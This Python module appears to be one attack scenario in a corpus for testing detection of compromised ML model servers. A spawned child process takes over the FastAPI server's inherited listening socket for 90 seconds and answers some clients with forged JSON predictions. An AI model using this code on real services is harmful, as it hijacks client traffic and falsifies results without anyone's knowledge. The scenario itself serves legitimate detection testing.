"""
id: V79
name: listener-shared
class: mimicry
set: listed
phase: serve
trigger: request
evidence: [process, network, sequence]
techniques: [T1557, T1205, T1565.002, T1559, AML.T0048]
servers: [fastapi]
seconds: 120
what: >
  Takes clients' connections away from the server: a copy of its process, made as the loader's child is, stays for a minute and
  a half and waits at the server's own port, on the socket that it got with the copy. Whoever connects anew is answered by the
  one or by the other; the copy reads what was asked and gives an answer of its own, in the right form. The port, the clients and
  the program are known; but the loader's child lives for a moment and has no dealings with clients.
"""

import contextlib
import select
import time

from corpus import child, descriptors

SECONDS = 90
LIMIT = 64 * 1024
ANSWER = b'{"ok": true, "labels": [0]}'
HEAD = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\nconnection: close\r\n\r\n"


def payload(world):
    child.run(take_over)


def take_over():
    taken = 0
    end = time.monotonic() + SECONDS
    listening = []
    for own in descriptors.inherited():
        if descriptors.listens(own):
            listening.append(own)
    while (left := end - time.monotonic()) > 0:
        for listener in select.select(listening, [], [], left)[0]:
            # The server may have been faster, and a client may leave.
            with contextlib.suppress(OSError):
                connection, _ = listener.accept()
                with connection:
                    connection.settimeout(2)
                    connection.recv(LIMIT)
                    connection.sendall(HEAD % len(ANSWER) + ANSWER)
                    taken += 1
    if not taken:
        raise TimeoutError("nobody has connected")
